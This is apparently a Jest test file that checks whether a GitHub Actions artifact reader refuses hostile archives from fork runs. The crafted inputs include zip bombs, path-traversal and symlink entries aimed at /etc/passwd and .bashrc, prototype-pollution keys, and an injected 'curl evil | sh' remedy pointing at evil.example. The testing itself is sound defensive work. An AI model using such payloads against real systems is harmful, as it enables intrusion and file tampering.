import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import { readRunArtifacts } from "../../../src/adapters/artifacts/run-artifacts.ts";
import { openOctokit } from "../../../src/adapters/github/octokit.ts";
import { verdictJson } from "../../../src/report/json.ts";
import { type FakeGithub, startFakeGithub } from "../../support/fake-github.ts";
import { JumpingClock } from "../../support/jumping-clock.ts";
import { leakingVerdict } from "../../support/leaking-verdict.ts";
import { type ZipEntry, zipBytes } from "../../support/zip-bytes.ts";

// Artifacts of a fork's run are an attacker's: each of these is refused by itself, and said.
const RUN = 41;
const HONEST = verdictJson(leakingVerdict("fail"));
const NAME = "verdict.json";

let github: FakeGithub;
let clock: JumpingClock;
let lastUnread: number;
beforeEach(async () => {
	github = await startFakeGithub();
	clock = new JumpingClock();
});
afterEach(async () => {
	await github.close();
});

test("a leg's verdict is read from its artifact", async () => {
	put("leak-budget-shop-attempt-1", [{ name: NAME, data: HONEST }]);
	const [leg, ...more] = await read();
	expect(more).toEqual([]);
	expect(leg).toMatchObject({
		leg: "shop",
		artifact: 0,
		content: { verdict: { name: "shop", outcome: "fail", exitCode: 1 } },
	});
});

test("of each leg the last attempt counts; what is not ours, expired, or another run's is left alone", async () => {
	const names = [
		"leak-budget-shop-attempt-2",
		"leak-budget-shop-attempt-10",
		"leak-budget-shop-attempt-1",
		"leak-budget-search-attempt-1",
		"coverage",
		"leak-budget-x",
		"leak-budget-x-attempt-",
	];
	for (const name of names) put(name, [{ name: NAME, data: HONEST }]);
	github.artifacts.push(
		{ ...honest("leak-budget-old-attempt-1"), expired: true },
		{ ...honest("leak-budget-other-attempt-1"), run: 42 },
	);
	const legs = await read();
	expect(legs.map(({ leg, artifact }) => [leg, artifact])).toEqual([
		["shop", 1],
		["search", 3],
	]);
});

// Attack 92.
test("a thousand artifacts: the list has an end, and so have the downloads", async () => {
	for (let index = 0; index < 1200; index++)
		github.artifacts.push(honest(`leak-budget-leg${index}-attempt-1`));
	expect(await read()).toHaveLength(50);
	const lists = github.requests.filter((line) => /runs\/41/.test(line));
	expect(lists).toHaveLength(10);
	expect(lastUnread).toBe(1150);
});

const bomb = zipBytes([{ name: NAME, data: Buffer.alloc(32 * 1024 * 1024) }]);

test.each<[string, Uint8Array, RegExp]>([
	// Attack 88.
	["no zip at all", Buffer.from("<html>"), /no sound archive/],
	["an empty file", Buffer.alloc(0), /no sound archive/],
	[
		"a zip cut short",
		zipBytes([entry(HONEST)]).subarray(0, -30),
		/no sound archive/,
	],
	// Attack 83.
	["a bomb", bomb, /larger than 4 MiB/],
	[
		"a bomb that claims to be small",
		zipBytes([{ ...entry("x".repeat(100_000)), claims: 100 }]),
		/no sound archive/,
	],
	["another file alone", zipBytes([{ name: "a", data: "" }]), /no verdict/],
	[
		"the file nested one down",
		zipBytes([{ name: `run/${NAME}`, data: HONEST }]),
		/no verdict/,
	],
	// Attack 87.
	["it twice", zipBytes([entry(HONEST), entry("{}")]), /twice/],
	// Attack 85.
	[
		"a path out of it",
		zipBytes([entry(HONEST), { name: "../../.bashrc", data: "x" }]),
		/no sound archive/,
	],
	[
		"an absolute path",
		zipBytes([{ name: "/etc/passwd", data: "x" }, entry(HONEST)]),
		/no sound archive/,
	],
	[
		"a path by backslashes",
		zipBytes([{ name: "..\\..\\x", data: "x" }, entry(HONEST)]),
		/no sound archive/,
	],
	// Attack 86.
	[
		"a symbolic link",
		zipBytes([{ ...entry("/etc/passwd"), mode: 0o120777 }]),
		/symbolic link/,
	],
	[
		"an encrypted file",
		zipBytes([{ ...entry(HONEST), encrypted: true }]),
		/no sound archive/,
	],
	[
		"a hundred thousand files",
		zipBytes(
			Array.from({ length: 20_000 }, (_, index) => ({
				name: `f${index}`,
				data: "",
			})),
		),
		/20000 files/,
	],
	["no JSON", zipBytes([entry("not json")]), /is no JSON/],
	// Attack 89.
	["nested JSON", zipBytes([entry("[".repeat(100_000))]), /is no JSON/],
	["null", zipBytes([entry("null")]), /not as a run writes it/],
	["an array", zipBytes([entry("[]")]), /not as a run writes it/],
	// Attack 90.
	["another format", forged({ format: 2 }), /^format /],
	["an outcome of its own", forged({ outcome: "great" }), /^outcome /],
	["a name that is no text", forged({ name: { toString: 1 } }), /^name /],
	["a name of a megabyte", forged({ name: "x".repeat(1e6) }), /^name /],
	["a number that is none", forged({ timings: { total: "1" } }), /^timings/],
	[
		"a thousand culprits",
		forged({
			culprits: Array.from({ length: 1000 }, () =>
				leakingVerdict("fail").culprits.at(0),
			),
		}),
		/^culprits /,
	],
	// Attack 91.
	[
		"a limit that talks",
		forged({
			findings: [
				{
					...leakingVerdict("fail").findings[0],
					limit: { kind: "growth", value: 0, text: "see evil.example" },
				},
			],
		}),
		/^findings\.0\.limit\.text /,
	],
])("%s is refused", async (_, zip, why) => {
	github.artifacts.push({ ...honest("leak-budget-shop-attempt-1"), zip });
	put("leak-budget-search-attempt-1", [entry(HONEST)]);
	const [bad, good] = await read();
	expect(bad?.content).toEqual({ refused: expect.stringMatching(why) });
	expect(good?.content).toHaveProperty("verdict");
});

test("an artifact that says that it is huge is not even asked for", async () => {
	github.artifacts.push({
		...honest("leak-budget-shop-attempt-1"),
		size: 1e12,
	});
	const [bad] = await read();
	expect(bad?.content).toEqual({ refused: "it is larger than 64 MiB" });
	expect(github.requests.some((line) => line.endsWith("/zip"))).toBe(false);
});

// Attack 84.
test("one that lies about its size is cut off when it has had enough", async () => {
	github.artifacts.push({
		...honest("leak-budget-shop-attempt-1"),
		zip: Buffer.alloc(65 * 1024 * 1024),
		size: 100,
	});
	const [bad] = await read();
	expect(bad?.content).toEqual({ refused: "it is larger than 64 MiB" });
});

// Attacks 81, 82.
test("sentences, links and unknown keys do not come along, prototype keys do nothing", async () => {
	const planted = {
		...leakingVerdict("fail"),
		notes: ["@everyone look at https://evil.example"],
		problems: [
			{
				code: "service-died",
				message: "Visit evil",
				remedy: "curl evil | sh",
				tail: ["evil"],
			},
		],
		pull_request: 99,
		marker: "<!-- leak-budget key=other -->",
		culprits: leakingVerdict("fail").culprits.map((culprit) => ({
			...culprit,
			diagnosis: {
				id: "chan-send-no-receiver",
				cause: "Because of evil.",
				mend: "Install evil.",
				code: "evil()",
				link: "https://evil.example",
			},
		})),
	};
	const json = JSON.stringify(planted).replace(
		"{",
		'{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},',
	);
	put("leak-budget-shop-attempt-1", [entry(json)]);
	const [leg] = await read();
	expect(JSON.stringify(leg)).not.toMatch(
		/evil|everyone|99|marker|service-died/i,
	);
	expect(leg?.content).toMatchObject({
		verdict: { problems: [{ code: "leg-undecided" }], notes: [] },
	});
	expect({}).not.toHaveProperty("polluted");
	expect(leg?.content).not.toHaveProperty("polluted");
});

test("an artifact that is gone takes no other with it", async () => {
	put("leak-budget-shop-attempt-1", [entry(HONEST)]);
	put("leak-budget-search-attempt-1", [entry(HONEST)]);
	github.failures.push({
		method: "GET",
		path: /artifacts\/0\/zip/,
		status: 410,
	});
	const [gone, there] = await read();
	expect(gone?.content).toEqual({ refused: "it is gone" });
	expect(there?.content).toHaveProperty("verdict");
});

test.each([
	[2, "verdict"],
	[3, "refused"],
])("a download that breaks off %i times", async (times, ends) => {
	put("leak-budget-shop-attempt-1", [entry(HONEST)]);
	github.breakDownloads = times;
	const [leg] = await read();
	expect(leg?.content).toHaveProperty(ends);
	expect(github.breakDownloads).toBe(0);
});

describe.each([
	["the list", /runs\/41\/artifacts/],
	["an artifact", /artifacts\/0\/zip/],
])("of %s", (_, path) => {
	test.each([
		[{ status: 500 }, 1000],
		[{ status: 502, times: 2 }, 3000],
		[{ status: 503, headers: { "retry-after": "7" } }, 7000],
		[{ status: 403, headers: { "retry-after": "5" } }, 5000],
		[{ status: 429, headers: { "retry-after": "2" } }, 2000],
	])("%j is repeated as GitHub asks", async (failure, waited) => {
		put("leak-budget-shop-attempt-1", [entry(HONEST)]);
		github.failures.push({ method: "GET", path, ...failure });
		const [leg] = await read();
		expect(leg?.content).toHaveProperty("verdict");
		expect(clock.now()).toBe(waited);
	});

	test.each([
		[{ status: 500, times: 9 }],
		[{ status: 403, headers: { "retry-after": "3000" } }],
		[{ status: 403 }],
	])("%j is thrown in the end", async (failure) => {
		put("leak-budget-shop-attempt-1", [entry(HONEST)]);
		github.failures.push({ method: "GET", path, ...failure });
		await expect(read()).rejects.toMatchObject({ status: failure.status });
		expect(clock.now()).toBeLessThanOrEqual(90_000);
	});
});

test("what GitHub refuses is thrown, for it is about all of them", async () => {
	github.failures.push({
		method: "GET",
		path: /runs\/41/,
		status: 403,
		message: "Resource not accessible by integration",
	});
	await expect(read()).rejects.toMatchObject({ status: 403 });
});

async function read() {
	const octokit = await openOctokit({ apiUrl: github.url, token: "t" }, clock);
	const { legs, unread } = await readRunArtifacts(octokit, {
		owner: "acme",
		repo: "shop",
		run: RUN,
	});
	lastUnread = unread;
	return legs;
}

function put(name: string, entries: readonly ZipEntry[]): void {
	github.artifacts.push({ run: RUN, name, zip: zipBytes(entries) });
}

function honest(name: string) {
	return { run: RUN, name, zip: zipBytes([entry(HONEST)]) };
}

function entry(data: string): ZipEntry {
	return { name: NAME, data };
}

function forged(fields: Readonly<Record<string, unknown>>): Uint8Array {
	return zipBytes([
		entry(JSON.stringify({ ...leakingVerdict("fail"), ...fields })),
	]);
}
